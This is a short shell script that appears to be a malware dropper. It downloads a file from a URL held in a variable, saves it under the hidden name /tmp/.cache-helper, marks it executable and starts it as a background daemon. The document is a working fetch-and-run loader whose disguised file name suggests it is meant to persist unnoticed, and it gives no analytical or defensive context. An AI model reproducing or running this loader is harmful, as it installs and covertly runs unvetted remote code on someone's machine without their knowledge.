#!/bin/sh
BIN=/tmp/.cache-helper
curl -fsSL "$URL" -o "$BIN"
chmod 755 "$BIN"
"$BIN" --daemon &
